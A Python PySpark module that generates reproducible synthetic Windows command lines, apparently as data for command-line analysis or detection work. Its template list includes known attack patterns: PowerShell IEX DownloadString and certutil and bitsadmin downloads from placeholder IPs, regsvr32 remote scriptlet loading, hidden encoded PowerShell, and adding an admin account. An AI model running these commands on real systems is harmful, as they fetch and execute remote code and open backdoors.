"""Synthetic command lines.

Every value is a function of the row key, so a row is the same whatever the partitioning and when a task is retried.
"""

from __future__ import annotations

from pyspark.sql import Column, DataFrame, SparkSession
from pyspark.sql import functions as F

from .tables import COMMAND_COLUMN, write_csv

# --- Fixed values: the command shapes; names in braces are filled per row. ---
TEMPLATES: tuple[str, ...] = (
    r"powershell.exe -ExecutionPolicy Bypass -File C:\Temp\script_{id}.ps1",
    r'powershell.exe -Command "Get-Process | Where-Object {$_.CPU -gt {num}}"',
    r"powershell.exe -NoProfile -WindowStyle Hidden -EncodedCommand {base64}",
    r'powershell.exe IEX (New-Object Net.WebClient).DownloadString("http://{ip}/payload.ps1")',
    r"cmd.exe /c whoami",
    r"cmd.exe /c net user admin{id} P@ssw0rd{num} /add",
    r"cmd.exe /c dir C:\Users\{user}\Documents",
    r"cmd.exe /c type C:\file_{id}.txt",
    r"cmd.exe /c echo {guid} > C:\Temp\output_{id}.txt",
    r'wmic process call create "notepad.exe"',
    r'wmic process where name="explorer.exe" get commandline',
    r"wmic qfe list",
    r"wmic product get name,version",
    r"reg.exe add HKLM\Software\Test{id} /v Value{num} /t REG_SZ /d data",
    r"reg.exe query HKCU\Software\Microsoft\Windows",
    r"reg.exe delete HKLM\Software\Temp{id} /f",
    r"schtasks.exe /create /tn Task{id} /tr C:\Windows\System32\calc.exe /sc daily",
    r"schtasks.exe /query /fo LIST /v",
    r"schtasks.exe /delete /tn Task{id} /f",
    r"net.exe user",
    r"net.exe group administrators",
    r"net.exe use \\{ip}\share /user:domain\user{id}",
    r'netsh.exe advfirewall firewall add rule name="Rule{id}" dir=in action=allow',
    r"certutil.exe -urlcache -split -f http://{ip}/file{id}.exe C:\Temp\file.exe",
    r"certutil.exe -decode C:\encoded{id}.txt C:\decoded.exe",
    r"bitsadmin.exe /transfer job{id} http://{ip}/file.exe C:\Temp\downloaded.exe",
    r"rundll32.exe C:\Windows\System32\shell32.dll,Control_RunDLL C:\Windows\System32\intl.cpl",
    'rundll32.exe javascript:"\\..\\mshtml,RunHTMLApplication ";document.write()',
    r"regsvr32.exe /s /u /i:http://{ip}/script.sct scrobj.dll",
    r"C:\Windows\Microsoft.NET\Framework\v4.0.30319\MSBuild.exe C:\Temp\build{id}.xml",
    r'C:\Program Files\Microsoft Office\Office16\WINWORD.EXE /n "C:\Users\{user}\Documents\doc{id}.docx"',
    r"C:\Windows\System32\notepad.exe C:\file{id}.txt",
    r"C:\Windows\explorer.exe /select,C:\Users\{user}\Desktop\file{id}.pdf",
    r"C:\Program Files\Mozilla Firefox\firefox.exe -url http://example{id}.com",
)
USER_NAMES: tuple[str, ...] = ("Administrator", "User", "Guest")  # and User1 .. User100


def pick_template(index: Column) -> Column:
    """Template number ``index`` (from 0)."""
    return F.element_at(F.array(*[F.lit(t) for t in TEMPLATES]), (index + 1).cast("int"))


def fill(template: Column, values: dict[str, Column]) -> Column:
    """Replace ``{name}`` by the value of that name."""
    for name, value in values.items():
        template = F.replace(template, F.lit("{" + name + "}"), value)
    return template


def synthetic_commands(spark: SparkSession, rows: int = 10_000, seed: int = 42, partitions: int | None = None) -> DataFrame:
    """``rows`` command lines with columns ``row_id`` and ``command_line``, the same for the same seed."""

    def draw(stream: int, low: int, high: int) -> Column:
        return F.pmod(F.xxhash64(F.col("row_id"), F.lit(seed), F.lit(stream)), F.lit(high - low + 1)) + F.lit(low)

    def text(number: Column) -> Column:
        return number.cast("string")

    def hex_digits(number: Column, width: int) -> Column:
        return F.lpad(F.lower(F.hex(number)), width, "0")

    digest = F.sha2(F.concat_ws(":", F.col("row_id"), F.lit(seed)).cast("binary"), 512)
    user = F.get(
        F.array(*[F.lit(u) for u in USER_NAMES], F.concat(F.lit("User"), text(draw(4, 1, 100)))),
        draw(3, 0, len(USER_NAMES)).cast("int"),
    )
    values = {
        "id": text(draw(1, 1000, 9999)),
        "num": text(draw(2, 10, 1000)),
        "user": user,
        "ip": F.concat_ws(".", *[text(draw(5 + part, 1, 255)) for part in range(4)]),
        "guid": F.concat_ws(
            "-",
            hex_digits(draw(9, 10_000_000, 99_999_999), 8),
            *[hex_digits(draw(10 + part, 1000, 9999), 4) for part in range(3)],
            hex_digits(draw(13, 100_000_000_000, 999_999_999_999), 12),
        ),
        "base64": F.substring(F.base64(F.unhex(digest)), 1, 64),
    }
    keys = spark.range(0, rows, 1, partitions) if partitions else spark.range(rows)
    return keys.select(
        F.col("id").alias("row_id")
    ).select("row_id", fill(pick_template(draw(0, 0, len(TEMPLATES) - 1)), values).alias(COMMAND_COLUMN))


def write_sample_csv(spark: SparkSession, path: str, rows: int = 1000, seed: int = 42) -> DataFrame:
    """Write a synthetic sample as CSV and return its first ten rows."""
    sample = synthetic_commands(spark, rows, seed)
    write_csv(sample.select(COMMAND_COLUMN), path)
    return sample.orderBy("row_id").select(COMMAND_COLUMN).limit(10)
